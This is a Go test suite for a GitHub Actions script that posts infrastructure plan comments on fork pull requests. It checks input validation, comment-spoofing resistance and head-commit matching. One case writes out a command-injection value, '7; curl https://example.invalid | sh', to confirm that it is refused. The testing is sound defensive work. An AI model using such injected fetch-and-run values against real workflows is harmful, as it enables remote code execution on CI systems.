package workflows

import (
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"
)

// The comment script of plan-comment.yml, run under Node.js against fakes of the GitHub API.

type fakeRepo struct {
	FullName string `json:"full_name"`
}

type fakePull struct {
	Head struct {
		SHA  string    `json:"sha"`
		Repo *fakeRepo `json:"repo"`
	} `json:"head"`
}

type fakeComment struct {
	ID   int `json:"id"`
	User struct {
		Login string `json:"login"`
	} `json:"user"`
	Body string `json:"body"`
}

type fakeRun struct {
	ID             int       `json:"id"`
	Event          string    `json:"event"`
	HeadSHA        string    `json:"head_sha"`
	HTMLURL        string    `json:"html_url"`
	HeadRepository *fakeRepo `json:"head_repository"`
}

type scriptScenario struct {
	Owner       string              `json:"owner"`
	Repo        string              `json:"repo"`
	WorkflowRun fakeRun             `json:"workflowRun"`
	Pulls       map[string]fakePull `json:"pulls"`
	Comments    []fakeComment       `json:"comments"`
}

type scriptResult struct {
	Calls []struct {
		API    string         `json:"api"`
		Params map[string]any `json:"params"`
	} `json:"calls"`
	Failed  *string  `json:"failed"`
	Notices []string `json:"notices"`
}

const (
	runSHA   = "3f786850e387550fdab836ed7e6dc881de23001b"
	otherSHA = "89e6c98d92887913cadf06b2adb97f26cde4849b"
	forkRepo = "someone/nimbus"
)

func pull(sha, repo string) fakePull {
	var p fakePull
	p.Head.SHA = sha
	if repo != "" {
		p.Head.Repo = &fakeRepo{FullName: repo}
	}
	return p
}

func comment(id int, login, body string) fakeComment {
	c := fakeComment{ID: id, Body: body}
	c.User.Login = login
	return c
}

// scriptCase is a run of the comment script: the artifact's files, what GitHub answers, and
// the calls and outcome wanted.
type scriptCase struct {
	reason     string
	files      map[string]string // the artifact; pr-number among them
	pulls      map[string]fakePull
	comments   []fakeComment
	wantCalls  []string // "API key", key the number or comment id
	wantFailed string   // a substring of the failure, "" for none
	wantBody   []string // substrings of the comment written
	notInBody  []string
}

var (
	devPlan  = "### nimbus plan: `dev` (aws, eu-west-1, dev)\n\n**69 resources to create** · ✅ guardrails pass\n"
	prodPlan = "### nimbus plan: `prod` (aws, eu-west-1, production)\n\n**80 resources to create** · ❌ 1 guardrail errors, 0 warnings\n"
)

func plans(prNumber string, extra map[string]string) map[string]string {
	files := map[string]string{prNumberFile: prNumber, "dev.md": devPlan, "prod.md": prodPlan}
	for k, v := range extra {
		files[k] = v
	}
	return files
}

var ours = map[string]fakePull{"7": pull(runSHA, forkRepo)}

var scriptCases = map[string]scriptCase{
	"NewComment": {
		reason:    "A first plan of a fork's pull request is a new comment with the marker and every stack.",
		files:     plans("7\n", nil),
		pulls:     ours,
		wantCalls: []string{"pulls.get 7", "issues.listComments 7", "issues.createComment 7"},
		wantBody:  []string{devPlan, prodPlan, runSHA[:12]},
	},
	"UpdatesItsOwnComment": {
		reason: "A later plan updates the bot's marked comment, not a user's comment quoting the marker.",
		files:  plans("7", nil),
		pulls:  ours,
		comments: []fakeComment{
			comment(5, "someone", marker+"\nspoofed"),
			comment(6, "github-actions[bot]", "another bot comment"),
			comment(8, "github-actions[bot]", marker+"\nold plan"),
		},
		wantCalls: []string{"pulls.get 7", "issues.listComments 7", "issues.updateComment 8"},
		wantBody:  []string{devPlan, prodPlan},
	},
	"IgnoresAUsersMarker": {
		reason:    "A user's comment that carries the marker is not the bot's to overwrite.",
		files:     plans("7", nil),
		pulls:     ours,
		comments:  []fakeComment{comment(5, "someone", marker)},
		wantCalls: []string{"pulls.get 7", "issues.listComments 7", "issues.createComment 7"},
	},
	"ShellInPRNumber": {
		reason:     "The number comes from the fork's code: anything but digits is refused before any API call.",
		files:      plans("7; curl https://example.invalid | sh", nil),
		wantFailed: "must be a pull request number",
	},
	"EmptyPRNumber":    {reason: "No number.", files: plans("", nil), wantFailed: "must be a pull request number"},
	"ZeroPRNumber":     {reason: "0 is no pull request.", files: plans("0", nil), wantFailed: "must be a pull request number"},
	"LeadingZero":      {reason: "Only canonical numbers.", files: plans("07", nil), wantFailed: "must be a pull request number"},
	"NegativePRNumber": {reason: "No sign.", files: plans("-7", nil), wantFailed: "must be a pull request number"},
	"FloatPRNumber":    {reason: "No fraction.", files: plans("7.0", nil), wantFailed: "must be a pull request number"},
	"HexPRNumber":      {reason: "Number() would read 0x7 as 7.", files: plans("0x7", nil), wantFailed: "must be a pull request number"},
	"HugePRNumber":     {reason: "At most ten digits.", files: plans("12345678901", nil), wantFailed: "must be a pull request number"},
	"TwoNumbers":       {reason: "One number.", files: plans("7 8", nil), wantFailed: "must be a pull request number"},
	"HeadMoved": {
		reason:    "A run of an older head (or an artifact naming another pull request) does not comment.",
		files:     plans("7", nil),
		pulls:     map[string]fakePull{"7": pull(otherSHA, forkRepo)},
		wantCalls: []string{"pulls.get 7"},
	},
	"OtherPullRequest": {
		reason:    "The artifact names pull request 9, whose head is not the run's: no comment there.",
		files:     plans("9", nil),
		pulls:     map[string]fakePull{"7": pull(runSHA, forkRepo), "9": pull(otherSHA, "victim/nimbus")},
		wantCalls: []string{"pulls.get 9"},
	},
	"UnknownPullRequest": {
		reason:     "A number with no pull request fails on GitHub's 404.",
		files:      plans("12", nil),
		pulls:      ours,
		wantCalls:  []string{"pulls.get 12"},
		wantFailed: "Not Found",
	},
	"OtherHeadRepository": {
		reason:     "The same commit in a pull request from another repository is not this run's pull request.",
		files:      plans("7", nil),
		pulls:      map[string]fakePull{"7": pull(runSHA, "other/nimbus")},
		wantCalls:  []string{"pulls.get 7"},
		wantFailed: "comes from other/nimbus",
	},
	"NoPlans": {
		reason:     "An artifact with a number and no plan is refused.",
		files:      map[string]string{prNumberFile: "7"},
		pulls:      ours,
		wantCalls:  []string{"pulls.get 7"},
		wantFailed: "no <stack>.md",
	},
	"OnlyStackFiles": {
		reason:    "Files that are not <stack>.md are not quoted.",
		files:     plans("7", map[string]string{"a b.md": "SPACED", ".hidden.md": "HIDDEN", "notes.txt": "NOTES"}),
		pulls:     ours,
		wantCalls: []string{"pulls.get 7", "issues.listComments 7", "issues.createComment 7"},
		wantBody:  []string{devPlan, prodPlan},
		notInBody: []string{"SPACED", "HIDDEN", "NOTES"},
	},
	"TooLongForOneComment": {
		reason:    "A plan that does not fit beside the others is named with a pointer to the run.",
		files:     plans("7", map[string]string{"prod.md": "### nimbus plan: `prod`\n" + strings.Repeat("x", 70000)}),
		pulls:     ours,
		wantCalls: []string{"pulls.get 7", "issues.listComments 7", "issues.createComment 7"},
		wantBody:  []string{devPlan, "Too long to share this comment", "https://github.com/nimbus-iac/nimbus/actions/runs/4242"},
	},
}

// commentScript returns the github-script step's script of the comment workflow.
func commentScript(r *repo) (string, error) {
	wf, ok := r.workflows[commentFile]
	if !ok {
		return "", errors.New(commentFile + " is missing")
	}
	for _, j := range wf.sortedJobs() {
		for _, s := range j.Steps {
			if s.uses("actions/github-script") {
				return s.with("script"), nil
			}
		}
	}
	return "", errors.New(commentFile + " has no actions/github-script step")
}

var errNoNode = errors.New("node is not on PATH")

// runScript runs script with the harness in testdata against the case's fakes.
func runScript(script string, tc scriptCase, dir string) (*scriptResult, error) {
	node, err := exec.LookPath("node")
	if err != nil {
		return nil, errNoNode
	}
	harness, err := filepath.Abs("testdata/github-script.js")
	if err != nil {
		return nil, err
	}
	planDir := filepath.Join(dir, "plan")
	if err := os.MkdirAll(planDir, 0o755); err != nil {
		return nil, err
	}
	for name, text := range tc.files {
		if err := os.WriteFile(filepath.Join(planDir, name), []byte(text), 0o644); err != nil {
			return nil, err
		}
	}
	sc := scriptScenario{
		Owner: "nimbus-iac", Repo: "nimbus",
		WorkflowRun: fakeRun{ID: 4242, Event: "pull_request", HeadSHA: runSHA,
			HTMLURL: "https://github.com/nimbus-iac/nimbus/actions/runs/4242", HeadRepository: &fakeRepo{FullName: forkRepo}},
		Pulls: tc.pulls, Comments: tc.comments,
	}
	b, err := json.Marshal(sc)
	if err != nil {
		return nil, err
	}
	scriptFile, scenarioFile := filepath.Join(dir, "script.js"), filepath.Join(dir, "scenario.json")
	if err := os.WriteFile(scriptFile, []byte(script), 0o644); err != nil {
		return nil, err
	}
	if err := os.WriteFile(scenarioFile, b, 0o644); err != nil {
		return nil, err
	}
	cmd := exec.Command(node, harness, scriptFile, scenarioFile)
	cmd.Env = append(os.Environ(), "PLAN_DIR="+planDir)
	out, err := cmd.Output()
	if err != nil {
		return nil, fmt.Errorf("cannot run the script under node: %w (%s)", err, out)
	}
	var res scriptResult
	if err := json.Unmarshal(out, &res); err != nil {
		return nil, fmt.Errorf("cannot read the harness's result %q: %w", out, err)
	}
	return &res, nil
}

// scriptCaseProblems runs one case and says how the script's behaviour differs from it.
func scriptCaseProblems(script string, tc scriptCase, dir string) ([]string, error) {
	res, err := runScript(script, tc, dir)
	if err != nil {
		return nil, err
	}
	var problems []string
	var calls []string
	var body *string
	for _, c := range res.Calls {
		key := c.Params["pull_number"]
		if key == nil {
			key = c.Params["issue_number"]
		}
		if c.API == "issues.updateComment" {
			key = c.Params["comment_id"]
		}
		calls = append(calls, fmt.Sprintf("%s %v", c.API, key))
		if b, ok := c.Params["body"].(string); ok {
			body = &b
		}
	}
	if diff := cmp.Diff(tc.wantCalls, calls); diff != "" {
		problems = append(problems, fmt.Sprintf("API calls (-want +got):\n%s", diff))
	}
	switch {
	case tc.wantFailed == "" && res.Failed != nil:
		problems = append(problems, "failed: "+*res.Failed)
	case tc.wantFailed != "" && res.Failed == nil:
		problems = append(problems, fmt.Sprintf("did not fail, want a failure containing %q", tc.wantFailed))
	case tc.wantFailed != "" && !strings.Contains(*res.Failed, tc.wantFailed):
		problems = append(problems, fmt.Sprintf("failed with %q, want a failure containing %q", *res.Failed, tc.wantFailed))
	}
	if body != nil {
		if !strings.HasPrefix(*body, marker) {
			problems = append(problems, "the comment does not start with the marker "+marker)
		}
		if n := len(utf16.Encode([]rune(*body))); n > commentLimit {
			problems = append(problems, fmt.Sprintf("the comment is %d characters, GitHub takes %d", n, commentLimit))
		}
		for _, s := range tc.wantBody {
			if !strings.Contains(*body, strings.TrimSpace(s)) {
				problems = append(problems, fmt.Sprintf("the comment lacks %q", s))
			}
		}
		for _, s := range tc.notInBody {
			if strings.Contains(*body, s) {
				problems = append(problems, fmt.Sprintf("the comment quotes %q", s))
			}
		}
	}
	return problems, nil
}

func checkCommentScript(r *repo) []string {
	script, err := commentScript(r)
	if err != nil {
		return []string{err.Error()}
	}
	var problems []string
	for _, name := range slices.Sorted(maps.Keys(scriptCases)) {
		dir, err := os.MkdirTemp("", "comment-script-")
		if err != nil {
			return []string{err.Error()}
		}
		p, err := scriptCaseProblems(script, scriptCases[name], dir)
		os.RemoveAll(dir)
		if err != nil {
			return []string{err.Error()}
		}
		for _, x := range p {
			problems = append(problems, fmt.Sprintf("comment script, case %s (%s): %s", name, scriptCases[name].reason, x))
		}
	}
	return problems
}
